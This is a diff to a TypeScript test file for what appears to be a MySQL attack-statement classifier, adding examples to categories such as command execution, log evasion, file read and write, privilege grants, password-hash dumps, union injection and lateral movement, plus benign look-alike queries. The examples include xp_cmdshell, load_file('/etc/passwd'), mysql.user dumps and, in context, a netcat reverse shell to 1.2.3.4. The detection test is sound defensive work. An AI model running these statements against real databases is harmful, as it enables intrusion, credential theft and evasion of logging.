@@ -11,6 +11,8 @@ const SERIOUS: Readonly<Record<string, readonly string[]>> = {
     "INSTALL COMPONENT 'file://component_x'",
   ],
   'mysql-udf-command': [
+    "exec master..xp_cmdshell 'dir'",
+    'drop function if exists sys_bineval',
     "select sys_exec('id > /tmp/x')",
     "SELECT sys_eval('whoami')",
     "select do_system('nc -e /bin/sh 1.2.3.4 4444')",
@@ -42,6 +44,8 @@ const SERIOUS: Readonly<Record<string, readonly string[]>> = {
     "set global general_log_file='/etc/my.cnf'",
   ],
   'mysql-defense-evasion': [
+    'set global super_read_only=off',
+    'set global binlog_expire_logs_seconds=1',
     "SET GLOBAL general_log='ON'",
     'set global general_log=0',
     'SET sql_log_bin=0',
@@ -66,11 +70,14 @@ const SERIOUS: Readonly<Record<string, readonly string[]>> = {
     "select 1 into outfile '\\\\\\\\1.2.3.4\\\\share\\\\x'",
   ],
   'mysql-file-write': [
+    "create table a (b text) data directory='/srv/www'",
+    "create tablespace x add datafile '/tmp/x.ibd'",
     "select * from users into outfile '/tmp/u.csv'",
     "SELECT 1 INTO OUTFILE '/tmp/x'",
     "select user from mysql.user into outfile '/tmp/x'",
   ],
   'mysql-file-read': [
+    "insert into loot values (load_file('/etc/hosts'))",
     "select load_file('/etc/passwd')",
     "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",
     "load data infile '/etc/shadow' into table x",
@@ -92,6 +99,8 @@ const SERIOUS: Readonly<Record<string, readonly string[]>> = {
     'create role r',
   ],
   'mysql-privilege-grant': [
+    "update mysql.user set host='%' where user='a'",
+    'alter table mysql.user add x int',
     "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%' WITH GRANT OPTION",
     'grant super on *.* to x',
     "update mysql.user set File_priv='Y' where user='x'",
@@ -121,6 +130,8 @@ const SERIOUS: Readonly<Record<string, readonly string[]>> = {
     '/*x*/drop/*y*/database/**/a',
   ],
   'mysql-hash-dump': [
+    'create table loot select * from mysql.user',
+    'handler mysql.user open',
     'select user,authentication_string from mysql.user',
     'select user,host,password from mysql.user',
     'select * from mysql.user',
@@ -147,6 +158,7 @@ const SERIOUS: Readonly<Record<string, readonly string[]>> = {
     'SELECT 1 FROM dual WHERE 1=1 AND SLEEP(5)-- -',
   ],
   'mysql-injection-union': [
+    'select 1 union select group_concat(table_name) from information_schema.tables',
     'select 1 union select null,null',
     'select id from t where id=-1 union all select 1,2,3',
     "select a from b where u='' or '1'='1'",
@@ -160,6 +172,7 @@ const SERIOUS: Readonly<Record<string, readonly string[]>> = {
     'SET GLOBAL event_scheduler=ON',
   ],
   'mysql-lateral-movement': [
+    "set global clone_valid_donor_list='1.2.3.4:3306'",
     "CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST '10.0.0.5')",
     "create table f (a int) engine=federated connection='mysql://root@10.0.0.5/x/y'",
     "CHANGE REPLICATION SOURCE TO SOURCE_HOST='1.2.3.4'",
@@ -241,6 +254,10 @@ const LOOKING_AROUND: readonly string[] = [
   'create database shop',
   'alter table t add b int',
   'select id,name from products where id=3',
+  "insert into faq (q) values ('how do I use LOAD DATA INFILE, or sleep(5)?')",
+  "update posts set body = 'create user a, then select * from b' where id = 1",
+  "insert into load_file_history (f) values ('a')",
+  'select id from jobs for update',
 ];
 
 test.each(Object.entries(SERIOUS))('%s is told by its words, and is serious', (name, statements) => {
